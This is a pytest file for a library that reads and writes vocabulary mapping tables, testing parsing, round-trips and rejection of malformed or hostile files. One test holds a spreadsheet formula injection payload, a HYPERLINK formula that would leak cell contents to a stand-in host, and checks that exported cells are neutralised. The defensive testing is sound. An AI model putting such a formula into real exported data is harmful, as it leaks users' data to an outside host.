"""Mappings between vocabularies as tables: read, written, read again, and refused whole where one is wrong."""

from __future__ import annotations

from pathlib import Path

import pytest

from redcommons.adapters.formats.sssom import read_mappings, shipped, written
from redcommons.adapters.formats.taxonomy import shipped as vocabularies
from redcommons.study.model import TermMapping
from redcommons.values.errors import BadInput

HEAD = "subject_id\tpredicate_id\tobject_id\tmapping_justification\tauthor_id\tcomment\n"


def put(folder: Path, text: str, name: str = "m.tsv") -> Path:
    (folder / name).write_text(text, encoding="utf-8")
    return folder / name


def test_what_comes_along_is_suggested_and_names_entries_that_there_are() -> None:
    codes = {f"{each.name}:{one.code}" for each in vocabularies() for one in each.categories}
    ((name, held),) = shipped()

    assert (name, len(held)) == ("owasp-llm-2025-to-2026", 10)
    assert {one.source for one in held} | {one.target for one in held} <= codes
    assert {(one.author, one.status, one.by_machine) for one in held} == {("Redcommons", "suggested", False)}
    renamed = next(one for one in held if one.source == "owasp-llm-2025:07")
    assert (renamed.predicate, renamed.target) == ("relatedMatch", "owasp-llm-2026:08")


def test_a_table_is_read_and_its_confirmations_are_not_taken_over(tmp_path: Path) -> None:
    text = "# curie_map: none\n" + HEAD.strip() + "\treviewer_id\n"
    text += "a:1\tskos:closeMatch\tb:2\tsemapv:LexicalMatching\tmatcher 3\tby letters\tElse\n"
    text += "a:2\tskos:exactMatch\tb:3\tsemapv:ManualMappingCuration\tAna\t\tElse\n"

    assert read_mappings(put(tmp_path, text)) == (
        TermMapping(
            source="a:1", predicate="closeMatch", target="b:2", author="matcher 3", by_machine=True, note="by letters"
        ),
        TermMapping(source="a:2", predicate="exactMatch", target="b:3", author="Ana"),
    )
    comma = "subject_id,predicate_id,object_id\na:1,broadMatch,b:1\n"
    assert read_mappings(put(tmp_path, comma, "m.csv")) == (
        TermMapping(source="a:1", predicate="broadMatch", target="b:1"),
    )


def test_what_is_written_is_read_again(tmp_path: Path) -> None:
    said = (
        TermMapping(source="a:1", predicate="closeMatch", target="b:2", author="m", by_machine=True, note="=1+1\tx\ny"),
        TermMapping(source="a:2", predicate="narrowMatch", target="b:3", status="confirmed", confirmed_by="Ana"),
    )
    text = written(said)

    assert text.splitlines()[2].endswith("\tAna")
    assert [(one.source, one.predicate, one.by_machine) for one in read_mappings(put(tmp_path, text))] == [
        ("a:1", "closeMatch", True),
        ("a:2", "narrowMatch", False),
    ]
    assert "\t'=1+1 x y" in text


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "is empty"),
        (HEAD, "0 mappings"),
        ("subject_id\tobject_id\na:1\tb:1\n", "no column 'predicate_id'"),
        (HEAD + "a:1\tskos:sameAs\tb:1\n", "mapping 1: 'skos:sameAs' is none of: exactMatch"),
        (HEAD + "a1\tskos:exactMatch\tb:1\n", "mapping 1: 'a1' is no code: write vocabulary:code"),
        (HEAD + "\tskos:exactMatch\tb:1\n", "mapping 1: an id is empty"),
        (HEAD + "a:1\tskos:exactMatch\tb:1\n" * 2, "mapping 2: a:1 to b:1 stands twice"),
        (HEAD + "a:1\tskos:exactMatch\tb:1\t\t" + "x" * 300 + "\n", "mapping 1: author_id has 300"),
    ],
)
def test_a_table_with_a_fault_is_refused_whole(tmp_path: Path, text: str, reason: str) -> None:
    with pytest.raises(BadInput, match=reason):
        read_mappings(put(tmp_path, text))


@pytest.mark.parametrize(
    "body",
    [
        b"", b"\x00" * 1_000, bytes(range(256)) * 1_000, b"PK\x03\x04" + b"\x00" * 100,
        b'"' + b"x" * 300_000 + b"\na\tb\n", HEAD.encode() + b'"a:b\tskos:exactMatch\tc:d\n' * 10,
        HEAD.encode() + b"a:b\tskos:exactMatch\tc:d\t\t" + b"x" * 200_000 + b"\n",
        HEAD.encode() + b"".join(b"a:%d\tskos:exactMatch\tc:%d\n" % (n, n) for n in range(2_000)),
    ],
)  # fmt: skip
def test_a_hostile_file_is_refused_in_words_whatever_it_is(tmp_path: Path, body: bytes) -> None:
    (tmp_path / "m.tsv").write_bytes(body)
    with pytest.raises(BadInput):
        read_mappings(tmp_path / "m.tsv")


def test_no_cell_that_leaves_is_run_by_a_spreadsheet() -> None:
    evil = '=HYPERLINK("//zq.example/"&A1,"x")'
    text = written([TermMapping(source=evil, predicate="exactMatch", target="@x:y", author="-1+1", note=evil)])

    cells = [cell.strip('"') for row in text.splitlines() for cell in row.split("\t")]
    assert [cell for cell in cells if cell.startswith(("=", "@", "-", "+"))] == []
    assert "HYPERLINK" in text
